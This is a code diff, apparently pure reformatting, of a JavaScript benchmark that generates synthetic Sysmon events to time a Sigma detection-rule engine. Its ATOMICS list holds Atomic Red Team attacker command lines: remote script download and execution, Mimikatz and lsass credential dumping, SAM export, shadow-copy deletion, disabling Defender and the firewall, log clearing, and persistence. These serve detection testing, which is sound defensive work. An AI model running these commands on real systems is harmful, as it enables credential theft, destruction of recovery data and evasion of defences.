@@ -50,13 +50,22 @@ const PS = `${S32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
 const RAW = 'https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics';
 const ATOMICS = [
 	[`${S32}\\regsvr32.exe`, `regsvr32.exe /s /u /i:${RAW}/T1218.010/src/RegSvr32.sct scrobj.dll`],
-	[`${S32}\\bitsadmin.exe`, `bitsadmin.exe /transfer /Download /priority Foreground ${RAW}/T1197/T1197.md %temp%\\bitsadmin1_flag.ps1`],
+	[
+		`${S32}\\bitsadmin.exe`,
+		`bitsadmin.exe /transfer /Download /priority Foreground ${RAW}/T1197/T1197.md %temp%\\bitsadmin1_flag.ps1`,
+	],
 	[`${S32}\\certutil.exe`, `certutil.exe -urlcache -split -f ${RAW}/T1105/T1105.yaml Atomic-license.txt`],
 	[`${S32}\\vssadmin.exe`, 'vssadmin.exe delete shadows /all /quiet'],
 	[`${S32}\\wbem\\WMIC.exe`, 'wmic.exe shadowcopy delete'],
 	[`${S32}\\bcdedit.exe`, 'bcdedit.exe /set {default} recoveryenabled no'],
-	[`${S32}\\rundll32.exe`, 'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full'],
-	[`${S32}\\reg.exe`, 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Atomic /t REG_SZ /d "C:\\Path\\AtomicRedTeam.exe" /f'],
+	[
+		`${S32}\\rundll32.exe`,
+		'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full',
+	],
+	[
+		`${S32}\\reg.exe`,
+		'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Atomic /t REG_SZ /d "C:\\Path\\AtomicRedTeam.exe" /f',
+	],
 	[`${S32}\\reg.exe`, 'reg save HKLM\\sam %temp%\\sam'],
 	[`${S32}\\reg.exe`, 'reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run'],
 	[`${S32}\\schtasks.exe`, 'schtasks /create /tn "T1053_005_OnLogon" /sc onlogon /tr "cmd.exe /c calc.exe"'],
@@ -65,16 +74,28 @@ const ATOMICS = [
 	[`${S32}\\whoami.exe`, 'whoami /all'],
 	[`${S32}\\nltest.exe`, 'nltest /domain_trusts /all_trusts'],
 	[`${S32}\\mshta.exe`, `mshta.exe javascript:a=(GetObject('script:${RAW}/T1218.005/src/mshta.sct')).Exec();close();`],
-	[PS, 'powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString(\'https://raw.githubusercontent.com/PowerShellMafia/PowerSploit/master/Exfiltration/Invoke-Mimikatz.ps1\'); Invoke-Mimikatz -DumpCreds"'],
+	[
+		PS,
+		'powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString(\'https://raw.githubusercontent.com/PowerShellMafia/PowerSploit/master/Exfiltration/Invoke-Mimikatz.ps1\'); Invoke-Mimikatz -DumpCreds"',
+	],
 	[PS, 'powershell.exe -e JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtAA=='],
 	[PS, 'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true'],
 	[PS, '"powershell.exe" & {Get-Process lsass | Out-Minidump -DumpFilePath $env:TEMP}'],
-	[`${S32}\\cmd.exe`, 'cmd.exe /c "C:\\AtomicRedTeam\\atomics\\T1003.001\\bin\\procdump.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass_dump.dmp"'],
+	[
+		`${S32}\\cmd.exe`,
+		'cmd.exe /c "C:\\AtomicRedTeam\\atomics\\T1003.001\\bin\\procdump.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass_dump.dmp"',
+	],
 	[`${S32}\\cmd.exe`, 'cmd.exe /c wevtutil cl System'],
 	[`${S32}\\cmd.exe`, 'cmd.exe /c "ping -n 1 127.0.0.1 > nul & del /f /q %temp%\\T1070.004.txt"'],
-	['C:\\AtomicRedTeam\\atomics\\T1003.001\\bin\\procdump.exe', 'procdump.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass_dump.dmp'],
+	[
+		'C:\\AtomicRedTeam\\atomics\\T1003.001\\bin\\procdump.exe',
+		'procdump.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass_dump.dmp',
+	],
 	['C:\\Users\\Public\\mimikatz.exe', 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'],
-	[`${S32}\\sc.exe`, 'sc.exe create AtomicService binPath= "C:\\AtomicRedTeam\\atomics\\T1543.003\\bin\\AtomicService.exe"'],
+	[
+		`${S32}\\sc.exe`,
+		'sc.exe create AtomicService binPath= "C:\\AtomicRedTeam\\atomics\\T1543.003\\bin\\AtomicService.exe"',
+	],
 	[`${S32}\\netsh.exe`, 'netsh advfirewall set currentprofile state off'],
 	[`${S32}\\attrib.exe`, 'attrib.exe +h C:\\Users\\Public\\T1564.001.txt'],
 	[`${S32}\\fsutil.exe`, 'fsutil usn deletejournal /D C:'],
@@ -99,15 +120,39 @@ const PARENTS = [
 	[`${S32}\\wbem\\WmiPrvSE.exe`, 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding'],
 	[`${S32}\\svchost.exe`, 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'],
 ];
-const USERS = ['CORP\\alice', 'CORP\\bob.admin', 'NT AUTHORITY\\SYSTEM', 'WS-FIN-01\\Administrator', 'CORP\\svc_backup'];
+const USERS = [
+	'CORP\\alice',
+	'CORP\\bob.admin',
+	'NT AUTHORITY\\SYSTEM',
+	'WS-FIN-01\\Administrator',
+	'CORP\\svc_backup',
+];
 const HOSTS = ['WS-FIN-01.corp.example', 'WS-HR-07.corp.example', 'SRV-DC-01.corp.example', 'WS-DEV-12.corp.example'];
 const hex = (alg, text) => createHash(alg).update(text).digest('hex').toUpperCase();
 
 /** The fields of a Sysmon event 1 as the flat JSON shape spells them. */
 function flat(o) {
-	const keys = ['Computer', 'UtcTime', 'ProcessId', 'Image', 'FileVersion', 'Description', 'Product', 'Company',
-		'OriginalFileName', 'CommandLine', 'CurrentDirectory', 'User', 'LogonId', 'IntegrityLevel', 'Hashes', 'ParentProcessId',
-		'ParentImage', 'ParentCommandLine', 'ParentUser'];
+	const keys = [
+		'Computer',
+		'UtcTime',
+		'ProcessId',
+		'Image',
+		'FileVersion',
+		'Description',
+		'Product',
+		'Company',
+		'OriginalFileName',
+		'CommandLine',
+		'CurrentDirectory',
+		'User',
+		'LogonId',
+		'IntegrityLevel',
+		'Hashes',
+		'ParentProcessId',
+		'ParentImage',
+		'ParentCommandLine',
+		'ParentUser',
+	];
 	const out = {EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational'};
 	for (const k of keys) if (o[k] !== undefined) out[k] = o[k];
 	return out;
@@ -179,7 +224,8 @@ const ROUTE_NAMES = {
 	'HTTP Request': 'network',
 	DNS: 'dns',
 };
-const routeName = ev => ROUTE_NAMES[ev.category] ?? (ev.category.startsWith('Registry') ? 'registry' : ev.category.toLowerCase());
+const routeName = ev =>
+	ROUTE_NAMES[ev.category] ?? (ev.category.startsWith('Registry') ? 'registry' : ev.category.toLowerCase());
 
 function rate(events, ms) {
 	return Math.round((events / ms) * 1000).toLocaleString('en-US');
@@ -238,7 +284,16 @@ function measure(label, recs, format) {
 }
 
 function header() {
-	const cols = [['events', 7], ['cands/e', 7], ['rules', 6], ['decode/s', 9], ['+rules/s', 9], ['rules/s', 9], ['warm/s', 9], ['hits/e', 6]];
+	const cols = [
+		['events', 7],
+		['cands/e', 7],
+		['rules', 6],
+		['decode/s', 9],
+		['+rules/s', 9],
+		['rules/s', 9],
+		['warm/s', 9],
+		['hits/e', 6],
+	];
 	console.log(`${'route'.padEnd(34)} ${cols.map(([name, width]) => name.padStart(width)).join(' ')}`);
 }
 
@@ -252,9 +307,11 @@ const loadMs = cpuMs() - t0;
 console.log(`loaded ${report.loaded} rules (${report.builtin} built-in) from ${CORPUS} in ${loadMs.toFixed(0)} ms CPU`);
 // The rules of an event's route: what the engine without a prefilter evaluates.
 const unfiltered = engine.unfiltered();
-console.log('cands/e: rules left to evaluate per event by the prefilter; rules: rules of the route (what runs without it);');
-console.log('decode/s, +rules/s: decode alone and decode + rules per record; rules/s: the rules\' share of that;');
-console.log('warm/s: the rules alone on pre-decoded events (caches warm with the engine\'s tables). CPU time.');
+console.log(
+	'cands/e: rules left to evaluate per event by the prefilter; rules: rules of the route (what runs without it);',
+);
+console.log("decode/s, +rules/s: decode alone and decode + rules per record; rules/s: the rules' share of that;");
+console.log("warm/s: the rules alone on pre-decoded events (caches warm with the engine's tables). CPU time.");
 header();
 const atomic = atomicProcessCreation(ATOMIC);
 const atomicRecs = atomic.map(l => ({value: Buffer.from(l), receivedAt: 0, origin: 'file'}));
@@ -291,7 +348,10 @@ if (process.env.SIGMA_BENCH_CLI !== '0') {
 			return undefined;
 		}
 	};
-	const perSecond = (events, seconds) => Math.round(events / seconds).toLocaleString('en-US').padStart(7);
+	const perSecond = (events, seconds) =>
+		Math.round(events / seconds)
+			.toLocaleString('en-US')
+			.padStart(7);
 	const run = (label, args, input = file, events = atomic.length) => {
 		const cpu0 = childCpu();
 		const start = process.hrtime.bigint();
@@ -306,7 +366,8 @@ if (process.env.SIGMA_BENCH_CLI !== '0') {
 			const perCpu = cpu ? `, ${perSecond(events, cpu)} per CPU second (${cpu.toFixed(1)} s)` : '';
 			const perWall = perSecond(events, wall);
 			console.log(`${label.padEnd(44)} ${perWall} events/s wall (${wall.toFixed(1)} s)${perCpu}${failed}`);
-		} else console.log(`${label.padEnd(44)} ${wall.toFixed(1)} s wall${cpu ? `, ${cpu.toFixed(1)} s CPU` : ''}${failed}`);
+		} else
+			console.log(`${label.padEnd(44)} ${wall.toFixed(1)} s wall${cpu ? `, ${cpu.toFixed(1)} s CPU` : ''}${failed}`);
 		return {wall, cpu};
 	};
 	const count = atomic.length.toLocaleString('en-US');
